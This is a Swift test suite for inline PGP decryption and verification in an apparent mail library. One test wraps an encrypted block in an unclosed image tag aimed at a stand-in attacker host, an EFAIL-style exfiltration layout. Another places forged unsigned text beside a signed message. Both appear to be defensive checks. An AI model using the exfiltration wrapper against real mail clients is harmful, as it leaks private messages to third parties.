import Testing

@testable import MIMEOpenPGP

/// Inline PGP: one armored block inside a mail body, perhaps with text around it.
@Suite("Inline PGP blocks in text", .serialized)
final class InlineTests {
    let peers: Peers

    init() throws { peers = try Peers() }

    @Test func blockInsideTextDecryptsAndReportsTheText() throws {
        let secret = Array(text: "only for Alice\n")
        let block = try peers.peer.gpg(["--armor", "--encrypt", "-r", Peers.aliceAddress], input: secret).output
        let text = Array(text: "<img src=\"http://attacker.example/\n") + block + Array(text: "\">\n")
        let result = try peers.context.decryptInline(text.crlf)
        #expect(result.outcome.plaintext == secret)
        #expect(result.surroundingText.count == 2)
        #expect(result.block.kind == .message)
    }

    @Test func severalMessageBlocksAreRefused() throws {
        let one = try peers.peer.gpg(["--armor", "--encrypt", "-r", Peers.aliceAddress], input: Array(text: "a")).output
        let two = try peers.peer.gpg(["--armor", "--encrypt", "-r", Peers.aliceAddress], input: Array(text: "b")).output
        #expect {
            try peers.context.decryptInline(one + Array(text: "\n") + two)
        } throws: { ($0 as? OpenPGPError)?.code == .invalidContent }
    }

    @Test func textWithoutABlockIsBrokenArmor() {
        #expect {
            try peers.context.decryptInline(Array(text: "Hello\n"))
        } throws: { ($0 as? OpenPGPError)?.code == .brokenArmor }
        #expect {
            try peers.context.verifyInline(Array(text: "Hello\n"))
        } throws: { ($0 as? OpenPGPError)?.code == .brokenArmor }
    }

    @Test(arguments: [false, true])
    func clearSignedBlockWithUnsignedTextAroundIt(crlf: Bool) throws {
        let signed = try peers.peer.gpg(
            ["--clearsign", "-u", Peers.carolAddress], input: Array(text: "I owe you 5 EUR.\n")
        )
        .output
        let text = Array(text: "Forwarded:\n\n") + signed + Array(text: "\nP.S. and 500 more.\n")
        let input = crlf ? text.crlf : text
        let result = try peers.context.verifyInline(input)
        #expect(result.outcome.signatures.map(\.status) == [.valid])
        #expect(
            result.surroundingText.map { String(decoding: input[$0], as: UTF8.self) } == [
                "Forwarded:", "P.S. and 500 more.",
            ])
    }
}
